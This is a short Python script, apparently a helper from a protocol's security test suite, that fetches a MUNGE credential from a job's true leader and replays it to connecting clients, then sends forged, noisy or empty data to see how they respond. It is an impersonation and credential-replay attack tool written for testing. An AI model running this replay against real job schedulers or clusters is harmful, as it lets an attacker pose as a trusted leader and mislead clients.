#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""A thief that has received a credential from the true leader of a job and shows it to clients:
thief.py ADDRESS PORT JOB LEADER PORT. Prints "ready", then for each connection one line with what
it sent after the credential, a different one each time."""
import socket
import struct
import sys

import attacks
import frames
import rogue

BY_MUNGE = 2  # the kinds of proof that the client can provide


def steal(leader, port, job):
    """The leader's complete reply to a request for a credential."""
    with socket.create_connection((leader, port), timeout=attacks.CLOSED_WITHIN) as stream:
        stream.sendall(frames.preamble(attacks.VERSION) + frames.introduction(job, BY_MUNGE))
        reply = b""
        head = len(frames.preamble(attacks.VERSION)) + 3
        while len(reply) < head or len(reply) < head + struct.unpack("<H", reply[head - 2:head])[0]:
            piece = stream.recv(4096)
            assert piece, reply
            reply += piece
    assert reply[head - 3] == rogue.WITH_CREDENTIAL and b"MUNGE:" in reply
    return reply


def main():
    address, port, job, leader, leaders = sys.argv[1:]
    reply = steal(leader, int(leaders), job)
    lies = {"leads in the clear": frames.forged(job, rogue.LEADER)["Welcome"],
            "noise": bytes(range(256)) * 8, "nothing": b""}

    def begin(stream):
        stream.sendall(reply)
        stream.recv(65536)  # the introduction
        stream.recv(65536)  # its first TLS message
    rogue.serve(address, int(port), lies.items(), begin)


if __name__ == "__main__":
    main()
